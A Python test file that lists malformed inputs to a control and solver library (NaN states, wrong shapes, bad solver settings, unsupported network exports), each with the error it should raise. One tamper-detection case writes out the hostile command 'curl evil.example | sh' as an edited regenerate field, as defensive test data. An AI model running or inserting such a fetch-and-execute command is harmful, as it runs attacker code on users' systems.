"""Bad and careless inputs to the solver sessions and the control stack (chapters 8 and 9), each with the outcome that
counts as handled: a named error whose message names the problem, or the right answer where a wrong one used to
come back silently. Cases that crashed or hung the interpreter are here too; ``scripts/replay_bad_inputs.py
--isolate`` runs each case in its own process with a time limit, so an older library's crash is counted, not
suffered.

Where the API changed (the certified active set became a session), the helpers below call either spelling, so the
same inputs replay against an older checkout.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path

import numpy as np
from bad_input_cases import Case, Usage, fam, load_edited, setter


@cache
def _mpc():
    return fam("mpc")


@cache
def _laws():
    from l2o_lib import enhance

    f = _mpc()
    xi = f.sample(200, seed=11)
    x, _ = f.solve_duals(xi)
    laws, ids = enhance.ActiveSetLaws.from_solutions(f, x)
    return laws, ids, xi


@cache
def _safe():
    from l2o_lib import control

    f = _mpc()
    return control.control_invariant_set(f.A, f.B, f.x_min, f.x_max, f.u_min, f.u_max)[0]


def _scores(n: int) -> np.ndarray:
    laws, _, _ = _laws()
    return np.random.default_rng(0).standard_normal((n, len(laws)))


def certified(xi, top_k: int = 1, scores=None):
    """The certified active set on ``xi`` (either API)."""
    from l2o_lib import enhance

    laws, _, _ = _laws()
    sc = _scores(len(xi)) if scores is None else scores
    if hasattr(enhance, "CertifiedSolver"):
        return enhance.CertifiedSolver(laws, lambda z: sc, top_k=top_k).solve(xi, scores=sc)
    return enhance.certified_solve(laws, sc, xi, top_k=top_k)


def hybrid(family):
    """A certified hybrid built from the MPC family's laws, run on ``family`` (either API)."""
    from l2o_lib import control, enhance

    laws, _, _ = _laws()
    W = np.random.default_rng(1).standard_normal((3, len(laws)))

    def scores(z):
        return np.c_[z, np.ones(len(z))] @ W

    if hasattr(enhance, "CertifiedSolver"):
        return control.CertifiedHybrid("h", enhance.CertifiedSolver(laws, scores), _safe(), family)
    return control.CertifiedHybrid("h", laws, scores, _safe(), family)


def filt(policy=None):
    from l2o_lib import control

    return control.SafetyFilter("f", policy, _safe(), _mpc())


# ------------------------------------------------------------------------------------------- the cases
def huge_xi(tmp: Path):
    return certified(np.ones((1, 3_000_000)))


def empty_polytope(tmp: Path):
    from l2o_lib import control

    H, h = np.array([[1.0, 0.0], [-1.0, 0.0]]), np.array([-1.0, -1.0])   # x ≤ −1 and x ≥ 1: empty
    return control.Polytope(H, h, np.array([[0.0, 0.0], [1.0, 0.0], [0.0, 1.0]])).sample(2, 0)


def sliver_invariant_set(tmp: Path):
    from l2o_lib import control

    f = _mpc()
    safe, _ = control.control_invariant_set(f.A, np.zeros((2, 1)), f.x_min, f.x_max, f.u_min, f.u_max)
    return safe.sample(10, 0)


def extra_column(tmp: Path):
    res = certified(np.array([[-1.0, 1.0, 1.0]]))
    return bool(np.isclose(res.x[0, 0], _mpc().solve(np.array([[-1.0, 1.0]])).x[0, 0], atol=1e-6))


def daqp(xi, **kw):
    from l2o_lib.solvers import DAQPSession

    return DAQPSession(_mpc(), **kw).solve(xi)


def daqp_result_ok(xi):
    """The session's answer is right, or it raised: never 'solved' with a wrong x."""
    def run(tmp: Path):
        res = daqp(xi)
        ref = _mpc().solve(np.atleast_2d(np.asarray(xi, dtype=float)), check_domain=False)
        return bool(np.all(res.ok == ref.ok) and np.allclose(res.x[res.ok], ref.x[ref.ok], atol=1e-6))
    return run


def daqp_controller_nan_state(tmp: Path):
    from l2o_lib import control

    c = control.DAQPController(_mpc())
    c.reset(np.array([[1.0, 0.0]]))
    u, _, failed = c.step(np.array([[np.nan, 0.0]]))
    return bool(failed[0])   # a flag at least; an error is better


def long_horizon(N: int):
    def run(tmp: Path):
        from l2o_lib.solvers import DAQPSession

        f = fam("mpc", horizon=N)
        xi = f.sample(10, seed=1)
        res = DAQPSession(f).solve(xi)
        ref = f.solve(xi)
        gap = np.abs(f.objective(res.x, xi) - ref.objective) / np.abs(ref.objective)
        return bool(res.ok.all() and gap.max() < 1e-6)
    return run


def daqp_tol(tol):
    def run(tmp: Path):
        from l2o_lib.solvers import DAQPSession

        xi = _mpc().sample(5, seed=2)
        res = DAQPSession(_mpc(), primal_tol=tol).solve(xi)
        return bool(res.ok.all() and np.allclose(res.x, _mpc().solve(xi).x, atol=1e-6))
    return run


def filter_nan_policy(tmp: Path):
    from l2o_lib import control

    f = _mpc()
    x0 = _safe().sample(4, seed=3)
    run = control.simulate(filt(lambda x: np.full((len(x), 1), np.nan)), x0, 5, f)
    return bool(np.isfinite(run.x).all() and run.failed.all() and run.violation(f).max() == 0)


def filter_one_nan_input(tmp: Path):
    u, flagged = filt().filter_one(np.array([0.0, 0.0]), float("nan"))
    return bool(np.isfinite(u) and flagged)


def filter_one_state(x):
    def run(tmp: Path):
        return filt().filter_one(np.asarray(x, dtype=float), 0.0)
    return run


def thin_invariant_set(tmp: Path):
    from l2o_lib import control

    f = _mpc()
    A = np.array([[3.0, 1.0], [0.0, 3.0]])
    safe, _ = control.control_invariant_set(A, f.B, f.x_min, f.x_max, [-1e-3], [1e-3])
    w = np.random.default_rng(0).dirichlet(np.full(len(safe.vertices), 0.1), 20000)  # near the vertices too
    pts = w @ safe.vertices
    lo, hi = control.safe_input_interval(pts, safe, A, f.B, -1e-3, 1e-3)
    return bool(np.all(lo <= hi + 1e-12))


def hybrid_other_family(tmp: Path):
    from l2o_lib import control

    other = fam("mpc", u_bound=0.5)
    x0 = _safe().sample(3, seed=4)
    return control.simulate(hybrid(other), x0, 5, other)


def duplicate_names(tmp: Path):
    from l2o_lib import control

    f = _mpc()
    x0 = _safe().sample(3, seed=5)
    a = control.simulate(control.PolicyController("p", lambda x: np.zeros((len(x), 1))), x0, 3, f)
    b = control.simulate(control.PolicyController("p", lambda x: np.full((len(x), 1), 0.5)), x0, 3, f)
    return control.closed_loop_table([a, b], f, reference="p", timing_reference="p")


def origin_runs(tmp: Path):
    from l2o_lib import control

    f = _mpc()
    x0 = np.zeros((3, 2))
    a = control.simulate(control.OSQPController(f), x0, 3, f)
    b = control.simulate(control.PolicyController("same", lambda x: np.zeros((len(x), 1))), x0, 3, f)
    t = control.closed_loop_table([a, b], f, reference=a.name, timing_reference=a.name)
    return bool(t["same"].cost_mean == 0 and t["same"].cost_within_1pct == 1.0)


def export(make):
    def run(tmp: Path):
        import torch
        from torch import nn

        from l2o_lib.torch.export import export_mlp

        torch.manual_seed(0)
        net = make(nn)
        c = export_mlp(net, dtype=np.float64)
        x = np.random.default_rng(0).standard_normal((32, 2))
        with torch.no_grad():
            ref = net(torch.as_tensor(x, dtype=torch.float32)).double().numpy()
        return bool(np.allclose(c(x), ref, atol=1e-5))   # a faithful export is fine too
    return run


def _residual(nn):
    class Res(nn.Module):
        def __init__(self):
            super().__init__()
            self.a, self.r, self.b = nn.Linear(2, 2), nn.ReLU(), nn.Linear(2, 2)

        def forward(self, x):
            return x + self.b(self.r(self.a(x)))
    return Res()


def _reversed(nn):
    class Rev(nn.Module):
        def __init__(self):
            super().__init__()
            self.b, self.r, self.a = nn.Linear(8, 8), nn.ReLU(), nn.Linear(2, 8)

        def forward(self, x):
            return self.b(self.r(self.a(x)))
    return Rev()


def compiled(**kw):
    from l2o_lib.compiled import CompiledMLP

    rng = np.random.default_rng(0)
    args = dict(weights=[rng.normal(size=(4, 2)), rng.normal(size=(1, 4))], biases=[rng.normal(size=4), rng.normal(size=1)])
    return CompiledMLP(args["weights"], args["biases"], **kw)


def compiled_int_dtype(tmp: Path):
    c = compiled(dtype=np.int32)
    return bool(np.allclose(c(np.ones((1, 2))), compiled(dtype=np.float64)(np.ones((1, 2))), atol=1e-5))


def compiled_into_int(tmp: Path):
    c = compiled(dtype=np.float64)
    out = np.zeros((1, 1), dtype=np.int64)
    c.into(np.array([[0.3, -0.2]]), out)
    return bool(np.allclose(out, c(np.array([[0.3, -0.2]])), atol=1e-6))


def compiled_bf16(tmp: Path):
    import torch

    c = compiled(dtype=np.float64)
    x = torch.tensor([[0.5, -0.25]], dtype=torch.bfloat16)
    return bool(np.allclose(c(x), c(np.array([[0.5, -0.25]])), atol=1e-6))


def predict_bf16(tmp: Path):
    import torch

    from l2o_lib import pretrained

    m = pretrained.load("ch1_direct_mlp")
    xi = np.array([[1.0, 0.5]])
    return bool(np.allclose(m.predict(torch.tensor(xi, dtype=torch.bfloat16)), m.predict(xi), atol=1e-6))


def evaluate_other_reference(tmp: Path):
    from l2o_lib import metrics

    f = fam("dc3_qp")
    a, b = f.sample(4, seed=0), f.sample(4, seed=1)
    ref_b = f.solve(b)
    ref_a = f.solve(a)
    r = metrics.evaluate(f, ref_a.x, a, ref_b)
    return bool(r.gap_max < 1e-6)


def laws_unknown_index(tmp: Path):
    laws, _, xi = _laws()
    return laws.evaluate(xi[:1], np.array([-1]))


def top_k_zero(tmp: Path):
    from l2o_lib import enhance

    laws, _, xi = _laws()
    if hasattr(enhance, "CertifiedSolver"):
        return enhance.CertifiedSolver(laws, lambda z: _scores(len(z)), top_k=0).solve_one(xi[0])
    s, best, stage, x = laws.certify_one(_scores(1)[0], xi[0], top_k=0)
    return best >= 0


def nan_strategies(tmp: Path):
    from l2o_lib import enhance

    s = np.zeros((1, _mpc().n_vars))
    s[0, 0] = np.nan
    return enhance.ActiveSetLaws(_mpc(), s)


def plans_of_wrong_width(tmp: Path):
    return _mpc().first_input(np.zeros((2, 5)))


def inputs_of_wrong_width(tmp: Path):
    return _mpc().inputs(np.zeros((2, 5)))


def break_even_nan(tmp: Path):
    from l2o_lib import enhance

    return enhance.break_even(10.0, float("nan"))


def scaling_out(path: str):
    def run(tmp: Path):
        import contextlib
        import io
        import time

        from l2o_lib.scaling.__main__ import main

        err = io.StringIO()
        t0 = time.perf_counter()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            try:
                main(["--quick", "--out", path.replace("{tmp}", str(tmp)), "--families", "mpc"])
            except SystemExit as exc:
                if exc.code == 2 and time.perf_counter() - t0 < 30:
                    raise Usage(err.getvalue().strip().splitlines()[-1]) from None
                raise
        return False
    return run


def osqp_setting(**kw):
    def run(tmp: Path):
        from l2o_lib.solvers import OSQPSession

        return OSQPSession(_mpc(), **kw)
    return run


def simulate_x0(x0):
    def run(tmp: Path):
        from l2o_lib import control

        return control.simulate(control.OSQPController(_mpc()), np.asarray(x0, dtype=float), 3, _mpc())
    return run


def wrong_width_policy(tmp: Path):
    from l2o_lib import control

    return control.simulate(control.PolicyController("p", lambda x: np.zeros((len(x), 3))), _safe().sample(2, 0), 3, _mpc())


def stepped_with_another_batch(tmp: Path):
    from l2o_lib import control

    c = control.OSQPController(_mpc())
    c.reset(_safe().sample(3, 0))
    return c.step(_safe().sample(2, 1))


CONTROL_CASES: list[Case] = [
    # ---- crashes and hangs
    Case("certified active set: ξ with 3 000 000 columns", huge_xi, ValueError, r"xi must have shape \(batch, 2\)"),
    Case("Polytope.sample of an empty set", empty_polytope, ValueError, r"Polytope.sample: .*(no interior|rejection)"),
    Case("sampling a sliver invariant set (B = 0)", sliver_invariant_set, ValueError,
         r"(Polytope.sample|control_invariant_set): .*(rejection|no interior|degenerate)"),
    # ---- silent wrong answers
    Case("certified active set: ξ with an extra column", extra_column, ValueError, r"xi must have shape \(batch, 2\)"),
    Case("DAQPSession: NaN state", lambda t: daqp([[np.nan, 0.0]]), ValueError, r"DAQPSession.solve: xi has NaN or inf"),
    Case("DAQPSession: inf state", lambda t: daqp([[np.inf, 0.0]]), ValueError, r"DAQPSession.solve: xi has NaN or inf"),
    Case("DAQPSession: 1-D state", lambda t: daqp([1.0, 0.0]), ValueError, r"xi must have shape \(batch, 2\)"),
    Case("DAQPSession: one column", lambda t: daqp([[1.0]]), ValueError, r"xi must have shape \(batch, 2\)"),
    Case("DAQPSession: three columns", lambda t: daqp([[1.0, 0.0, 2.0]]), ValueError, r"xi must have shape \(batch, 2\)"),
    Case("DAQPSession: strings", lambda t: daqp([["a", "b"]]), TypeError, r"xi must be a numeric array"),
    Case("DAQPSession: a good state still solves", daqp_result_ok([[1.0, -0.5], [3.0, 1.0]])),
    Case("DAQPController: NaN state", daqp_controller_nan_state, ValueError, r"step: NaN or inf in states"),
    Case("DAQPSession at horizon 55: accurate or refused", long_horizon(55), ValueError, r"condition number"),
    Case("DAQPSession at horizon 60: accurate or refused", long_horizon(60), ValueError, r"condition number"),
    Case("DAQPSession at horizon 150: accurate or refused", long_horizon(150), ValueError, r"condition number"),
    Case("DAQPSession primal_tol = NaN", daqp_tol(float("nan")), ValueError, r"primal_tol must be a positive"),
    Case("DAQPSession primal_tol = -1", daqp_tol(-1.0), ValueError, r"primal_tol must be a positive"),
    Case("safety filter: a NaN policy is filtered and flagged", filter_nan_policy),
    Case("safety filter: filter_one with a NaN input", filter_one_nan_input),
    Case("safety filter: a NaN state", filter_one_state([np.nan, 0.0]), ValueError, r"is not finite"),
    Case("safety filter: a state of length 0", filter_one_state([]), ValueError, r"x must have shape \(2,\)"),
    Case("safety filter: a state of length 1", filter_one_state([0.5]), ValueError, r"x must have shape \(2,\)"),
    Case("safety filter: a state of length 3", filter_one_state([0.5, 0.0, 9.0]), ValueError, r"x must have shape \(2,\)"),
    Case("invariant set of a fast unstable system with a tiny input is invariant", thin_invariant_set),
    Case("CertifiedHybrid with another family's laws", hybrid_other_family, ValueError, r"not to the family given"),
    Case("closed_loop_table: two runs with one name", duplicate_names, ValueError, r"two or more runs are named \['p'\]"),
    Case("closed_loop_table: runs from the origin", origin_runs),
    Case("export_mlp: trailing ReLU", export(lambda nn: nn.Sequential(nn.Linear(2, 8), nn.ReLU(), nn.Linear(8, 3), nn.ReLU())),
         ValueError, r"does not compute Linear"),
    Case("export_mlp: leading ReLU", export(lambda nn: nn.Sequential(nn.ReLU(), nn.Linear(2, 8), nn.ReLU(), nn.Linear(8, 3))),
         ValueError, r"does not compute Linear"),
    Case("export_mlp: two Linear layers in a row", export(lambda nn: nn.Sequential(nn.Linear(2, 8), nn.Linear(8, 3))),
         ValueError, r"does not compute Linear"),
    Case("export_mlp: a residual block", export(_residual), ValueError, r"does not compute Linear"),
    Case("export_mlp: layers registered in reverse order", export(_reversed), ValueError,
         r"(does not compute Linear|do not chain)"),
    Case("CompiledMLP(dtype=int32)", compiled_int_dtype, ValueError, r"dtype must be float32 or float64"),
    Case("CompiledMLP.into an int64 buffer", compiled_into_int, ValueError, r"out float64"),
    Case("CompiledMLP(out_scale=nan)", lambda t: compiled(out_scale=float("nan")), ValueError, r"out_scale must be finite"),
    Case("CompiledMLP on a bfloat16 tensor", compiled_bf16),
    Case("predict on a bfloat16 tensor", predict_bf16),
    Case("evaluate against another batch's reference", evaluate_other_reference, ValueError,
         r"reference solves other instances than ξ"),
    Case("laws.evaluate with the unknown index −1", laws_unknown_index, ValueError, r"must lie in \[0, "),
    Case("certified active set with top_k = 0", top_k_zero, ValueError, r"top_k must be a positive integer"),
    Case("ActiveSetLaws from NaN strategies", nan_strategies, ValueError, r"only −1, 0 and \+1"),
    Case("LinearMPC(x_bound=True)", lambda t: fam("mpc", x_bound=True), ValueError, r"x_bound must be a positive number"),
    Case("first_input of plans of the wrong width", plans_of_wrong_width, ValueError, r"plans must have shape \(batch, 30\)"),
    Case("inputs of plans of the wrong width", inputs_of_wrong_width, ValueError, r"plans must have shape \(batch, 30\)"),
    Case("break_even(10, nan)", break_even_nan, ValueError, r"saved_per_solve must be a finite number"),
    # ---- unclear errors
    Case("scaling --out under /proc", scaling_out("/proc/nope/s.json"), Usage, r"--out /proc/nope/s.json: cannot write there"),
    Case("scaling --out a folder", scaling_out("{tmp}"), Usage, r"cannot write there"),
    Case("OSQPSession(max_iter=0)", osqp_setting(max_iter=0), ValueError, r"max_iter must be a positive integer"),
    Case("OSQPSession(alpha=3)", osqp_setting(alpha=3.0), ValueError, r"alpha must be a number in \(0, 2\)"),
    Case("OSQPSession(sigma=-1)", osqp_setting(sigma=-1.0), ValueError, r"sigma must be a positive"),
    Case("LinearMPC(u_bound=1e-300).sample", lambda t: fam("mpc", u_bound=1e-300).sample(3, 0), ValueError,
         r"feasible set of x₀ could not be mapped"),
    Case("simulate from an empty batch", simulate_x0(np.zeros((0, 2))), ValueError, r"x0 must have shape \(batch ≥ 1, 2\)"),
    Case("simulate from a 1-D x0", simulate_x0([1.0, 0.0]), ValueError, r"x0 must have shape \(batch ≥ 1, 2\)"),
    Case("a card with a loosened target", load_edited(setter(targets={"gap_mean": 5000.0})), ValueError,
         r"field\(s\) \['targets'\] differ from what manifest.json signed"),
    Case("a card with an edited regenerate command", load_edited(setter(regenerate="curl evil.example | sh")), ValueError,
         r"field\(s\) \['regenerate'\] differ from what manifest.json signed"),
    Case("simulate a policy of the wrong width", wrong_width_policy, ValueError, r"returned inputs \(2, 3\)"),
    Case("a controller stepped with another batch size", stepped_with_another_batch, ValueError,
         r"reset with 3 systems, stepped with 2"),
]
